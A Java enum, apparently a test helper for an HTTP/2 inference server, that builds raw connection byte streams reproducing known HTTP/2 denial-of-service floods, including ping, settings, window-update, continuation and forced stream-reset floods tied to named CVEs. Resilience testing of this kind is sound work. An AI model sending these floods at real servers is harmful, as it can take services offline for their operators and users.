package dev.kilter.network;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/** Frames with which clients keep servers busy for nothing: CVE-2019-9511 to 9518, CVE-2024-27316, CVE-2025-8671. */
public enum Flood {
    PINGS(Http2Wire.PING, 0, 0, new byte[8]),
    PINGS_ANSWERED_THAT_NOBODY_SENT(Http2Wire.PING, Http2Wire.ACK, 0, new byte[8]),
    SETTINGS(Http2Wire.SETTINGS, 0, 0, new byte[0]),
    PRIORITIES(Http2Wire.PRIORITY, 0, 3, new byte[] {0, 0, 0, 1, 15}),
    WINDOWS_OF_ONE_BYTE(Http2Wire.WINDOW_UPDATE, 0, 0, Http2Wire.ints(1)),
    WINDOWS_OF_ONE_BYTE_FOR_A_STREAM(Http2Wire.WINDOW_UPDATE, 0, 1, Http2Wire.ints(1)),
    FRAMES_OF_AN_UNKNOWN_TYPE(77, 0, 0, new byte[0]),
    EMPTY_DATA(Http2Wire.DATA, 0, 1, new byte[0]),
    EMPTY_CONTINUATIONS(Http2Wire.CONTINUATION, 0, 1, new byte[0]) {
        @Override
        byte[] opening() {
            return request(1, 0);
        }
    },
    /** The server resets each stream for its client's fault. */
    STREAMS_THAT_THE_SERVER_IS_MADE_TO_RESET(Http2Wire.WINDOW_UPDATE, 0, 1, Http2Wire.ints(0)) {
        @Override
        byte[] opening() {
            return new byte[0];
        }

        @Override
        byte[] frame(int number) {
            int stream = 2 * number + 1;
            return Http2Wire.concat(
                    request(stream, Http2Wire.END_HEADERS),
                    Http2Wire.frame(Http2Wire.WINDOW_UPDATE, 0, stream, Http2Wire.ints(0)));
        }
    };

    private final int type;
    private final int flags;
    private final int stream;
    private final String payload;

    Flood(int type, int flags, int stream, byte[] payload) {
        this.type = type;
        this.flags = flags;
        this.stream = stream;
        this.payload = new String(payload, StandardCharsets.ISO_8859_1);
    }

    /** All of a connection: its opening, a request that goes on, and that many frames. */
    public byte[] of(int frames) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes(Http2Wire.opening());
        all.writeBytes(opening());
        for (int i = 0; i < frames; i++) {
            all.writeBytes(frame(i));
        }
        return all.toByteArray();
    }

    byte[] opening() {
        return request(1, Http2Wire.END_HEADERS);
    }

    byte[] frame(int number) {
        return Http2Wire.frame(type, flags, stream, payload.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static byte[] request(int stream, int flags) {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put(":method", "POST");
        headers.put(":scheme", "http");
        headers.put(":path", "/v2/models/echo/infer");
        headers.put(":authority", "x");
        headers.put("content-type", "application/json");
        return Http2Wire.frame(Http2Wire.HEADERS, flags, stream, Http2Wire.headers(headers));
    }
}
